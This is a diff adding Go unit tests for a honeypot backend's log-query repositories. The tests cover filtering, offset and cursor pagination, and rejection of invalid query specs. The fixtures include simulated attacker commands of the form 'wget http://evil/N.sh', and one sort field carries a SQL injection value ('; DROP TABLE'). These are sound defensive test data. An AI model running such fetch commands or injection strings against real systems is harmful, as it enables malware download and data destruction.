@@ -0,0 +1,161 @@
+package services
+
+import (
+	"andorralee/internal/config"
+	"andorralee/internal/repositories"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+)
+
+// TestQuerySpecFiltersAndOffset 测试多字段过滤、时间范围、排序、偏移量分页和总数
+func TestQuerySpecFiltersAndOffset(t *testing.T) {
+	useSQLiteDatabase(t)
+
+	repo := repositories.NewCowrieLogRepo(config.DB)
+	start := time.Date(2025, 3, 1, 10, 0, 0, 0, time.Local)
+	var logs []repositories.CowrieLog
+	for i := 0; i < 10; i++ {
+		protocol := "ssh"
+		if i%2 == 1 {
+			protocol = "telnet"
+		}
+		logs = append(logs, repositories.CowrieLog{
+			AuthID:    fmt.Sprintf("q%d", i),
+			SessionID: fmt.Sprintf("s%d", i),
+			SourceIP:  fmt.Sprintf("10.0.0.%d", i%3),
+			Protocol:  protocol,
+			EventTime: start.Add(time.Duration(i) * time.Minute),
+			Username:  "root",
+			Command:   fmt.Sprintf("wget http://evil/%d.sh", i),
+		})
+	}
+	if _, err := repo.CreateBatch(logs); err != nil {
+		t.Fatalf("写入日志失败: %v", err)
+	}
+
+	// ssh且来自10.0.0.0或10.0.0.1，且在第1到第8分钟之间: i=4,6
+	page, err := repo.Query(repositories.QuerySpec{
+		Filters: []repositories.QueryFilter{
+			{Field: "protocol", Values: []string{"ssh"}},
+			{Field: "source_ip", Op: repositories.FilterIn, Values: []string{"10.0.0.0", "10.0.0.1"}},
+			{Field: "event_time", Op: repositories.FilterGte, Values: []string{start.Add(time.Minute).Format(time.RFC3339)}},
+			{Field: "event_time", Op: repositories.FilterLte, Values: []string{start.Add(8 * time.Minute).Format(time.RFC3339)}},
+		},
+		SortField: "event_time",
+		SortDesc:  true,
+	})
+	if err != nil {
+		t.Fatalf("查询失败: %v", err)
+	}
+	if page.Total != 2 || len(page.Items) != 2 || page.Items[0].AuthID != "q6" || page.Items[1].AuthID != "q4" || page.NextCursor != "" {
+		t.Fatalf("过滤或排序结果错误: %+v", page)
+	}
+
+	page, err = repo.Query(repositories.QuerySpec{SortField: "event_time", Offset: 4, Limit: 3})
+	if err != nil || page.Total != 10 || len(page.Items) != 3 || page.Items[0].AuthID != "q4" || page.NextCursor == "" {
+		t.Fatalf("偏移量分页错误: %+v err=%v", page, err)
+	}
+
+	page, err = repo.Query(repositories.QuerySpec{Filters: []repositories.QueryFilter{{Field: "command", Op: repositories.FilterLike, Values: []string{"/7.sh"}}}})
+	if err != nil || page.Total != 1 || page.Items[0].AuthID != "q7" {
+		t.Fatalf("模糊匹配错误: %+v err=%v", page, err)
+	}
+
+	for _, spec := range []repositories.QuerySpec{
+		{Filters: []repositories.QueryFilter{{Field: "no_such_field", Values: []string{"x"}}}},
+		{Filters: []repositories.QueryFilter{{Field: "protocol", Op: "regex", Values: []string{"x"}}}},
+		{Filters: []repositories.QueryFilter{{Field: "event_time", Values: []string{"yesterday"}}}},
+		{SortField: "password; DROP TABLE cowrie_log"},
+		{Cursor: "not-a-cursor"},
+	} {
+		if _, err := repo.Query(spec); !errors.Is(err, repositories.ErrInvalidQuerySpec) {
+			t.Errorf("无效的查询条件应返回ErrInvalidQuerySpec: %+v err=%v", spec, err)
+		}
+	}
+}
+
+// TestQuerySpecCursor 测试游标分页按时间倒序遍历全部记录，时间相同的记录按ID区分，不重复也不遗漏
+func TestQuerySpecCursor(t *testing.T) {
+	useSQLiteDatabase(t)
+
+	repo := repositories.NewHeadlingAuthLogRepo(config.DB)
+	start := time.Date(2025, 3, 1, 10, 0, 0, 0, time.Local)
+	for i := 0; i < 7; i++ {
+		log := repositories.HeadlingAuthLog{
+			Timestamp: start.Add(time.Duration(i/2) * time.Second),
+			AuthID:    fmt.Sprintf("h%d", i),
+			SourceIP:  "1.2.3.4",
+			Protocol:  "ssh",
+			Username:  fmt.Sprintf("user%d", i),
+			Password:  "123456",
+		}
+		if err := repo.Create(&log); err != nil {
+			t.Fatalf("写入认证日志失败: %v", err)
+		}
+	}
+
+	spec := repositories.QuerySpec{SortField: "timestamp", SortDesc: true, Limit: 3}
+	seen := make(map[uint]bool)
+	var order []string
+	for pages := 0; ; pages++ {
+		if pages > 5 {
+			t.Fatalf("游标分页没有结束")
+		}
+		page, err := repo.Query(spec)
+		if err != nil {
+			t.Fatalf("查询失败: %v", err)
+		}
+		if page.Total != 7 {
+			t.Fatalf("总数错误: %d", page.Total)
+		}
+		for _, item := range page.Items {
+			if seen[item.ID] {
+				t.Fatalf("记录%d重复出现", item.ID)
+			}
+			seen[item.ID] = true
+			order = append(order, item.Username)
+		}
+		if page.NextCursor == "" {
+			break
+		}
+		spec.Cursor = page.NextCursor
+	}
+	if got := strings.Join(order, ","); got != "user6,user5,user4,user3,user2,user1,user0" {
+		t.Fatalf("遍历顺序错误: %s", got)
+	}
+
+	// 游标与排序方式不一致
+	spec.SortDesc = false
+	if _, err := repo.Query(spec); !errors.Is(err, repositories.ErrInvalidQuerySpec) {
+		t.Errorf("排序方式改变后游标应失效: %v", err)
+	}
+}
+
+// TestMemoryInstanceQuery 测试内存实例仓库的分页与数据库仓库语义一致
+func TestMemoryInstanceQuery(t *testing.T) {
+	repo := repositories.NewMemoryHoneypotInstanceRepo()
+	for i := 0; i < 5; i++ {
+		status := "running"
+		if i == 2 {
+			status = "stopped"
+		}
+		instance := repositories.HoneypotInstance{Name: fmt.Sprintf("hp%d", i), Status: status, CreateTime: time.Now()}
+		if err := repo.Create(&instance); err != nil {
+			t.Fatalf("创建实例失败: %v", err)
+		}
+	}
+
+	spec := repositories.QuerySpec{Filters: []repositories.QueryFilter{{Field: "status", Values: []string{"running"}}}, SortDesc: true, Limit: 2}
+	first, err := repo.Query(spec)
+	if err != nil || first.Total != 4 || len(first.Items) != 2 || first.Items[0].Name != "hp4" || first.NextCursor == "" {
+		t.Fatalf("第一页错误: %+v err=%v", first, err)
+	}
+	spec.Cursor = first.NextCursor
+	second, err := repo.Query(spec)
+	if err != nil || len(second.Items) != 2 || second.Items[0].Name != "hp1" || second.Items[1].Name != "hp0" || second.NextCursor != "" {
+		t.Fatalf("第二页错误: %+v err=%v", second, err)
+	}
+}